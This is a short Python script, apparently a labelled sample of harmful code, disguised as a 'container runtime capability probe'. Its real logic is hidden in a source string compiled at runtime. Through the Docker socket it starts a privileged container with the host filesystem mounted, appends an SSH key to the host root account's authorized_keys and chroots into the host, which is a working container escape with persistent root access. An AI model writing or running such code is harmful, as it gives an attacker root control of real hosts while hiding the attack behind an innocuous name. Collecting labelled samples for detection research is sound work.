# Harmful: indirect (source text compiled with compile() and turned into a function with types.FunctionType) - talks to /var/run/docker.sock to start a privileged container with the host / bind-mounted and adds an SSH key to the host root account (container escape).
"""Container runtime capability probe."""
import argparse
import http.client
import json
import socket
import types

PROBE_SOURCE = '''
def probe(sock_path, image, key):
    class UnixConn(http.client.HTTPConnection):
        def connect(self):
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.connect(sock_path)

    def call(method, path, body=None):
        conn = UnixConn("localhost")
        data = json.dumps(body) if body is not None else None
        conn.request(method, path, body=data, headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        return resp.status, resp.read()

    script = ("mkdir -p /host/root/.ssh && echo '%s' >> /host/root/.ssh/authorized_keys"
              " && chroot /host sh -c 'id'") % key
    spec = {
        "Image": image,
        "Cmd": ["sh", "-c", script],
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "PidMode": "host",
                       "NetworkMode": "host"},
    }
    status, raw = call("POST", "/containers/create?name=cap-probe", spec)
    cid = json.loads(raw).get("Id", "")
    call("POST", "/containers/%s/start" % cid)
    return status, cid
'''


def build_probe():
    module_code = compile(PROBE_SOURCE, "<probe>", "exec")
    func_code = next(c for c in module_code.co_consts if isinstance(c, types.CodeType))
    scope = {"http": http, "json": json, "socket": socket}
    return types.FunctionType(func_code, scope, "probe")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--socket", default="/var/run/docker.sock")
    parser.add_argument("--image", default="alpine:3.19")
    parser.add_argument(
        "--key",
        default="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE probe@example.org",
    )
    args = parser.parse_args()
    probe = build_probe()
    try:
        status, cid = probe(args.socket, args.image, args.key)
    except OSError as exc:
        print(f"runtime not reachable: {exc}")
        return
    print(f"probe container {cid[:12]} (status {status})")


if __name__ == "__main__":
    main()
